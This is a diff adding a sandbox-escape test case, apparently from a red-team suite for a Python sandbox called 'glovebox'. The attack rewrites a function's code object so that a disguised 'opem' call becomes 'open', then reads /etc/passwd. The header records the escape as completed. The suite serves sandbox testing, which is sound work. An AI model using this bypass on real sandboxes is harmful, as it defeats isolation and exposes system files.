@@ -1,0 +1,32 @@
+# id: L06
+# family: language
+# goal: rename what a function reads by replacing its code object
+# finding: none
+# outcome: COMPLETED
+# observed_by: none
+# control: got-in
+
+from glovebox import Strategy
+
+
+def template(path):
+    return opem(path).read(20)
+
+
+def attack(ctx, bar):
+    code = template.__code__
+    template.__code__ = code.replace(
+        co_names=tuple("open" if name == "opem" else name for name in code.co_names)
+    )
+    return template("/etc/passwd")
+
+
+class Attack(Strategy):
+    def on_bar(self, ctx, bar):
+        try:
+            got = attack(ctx, bar)
+        except Exception as error:
+            ctx.log("REFUSED " + type(error).__name__)
+            return
+        if got:
+            ctx.log("GOT-IN " + str(got))
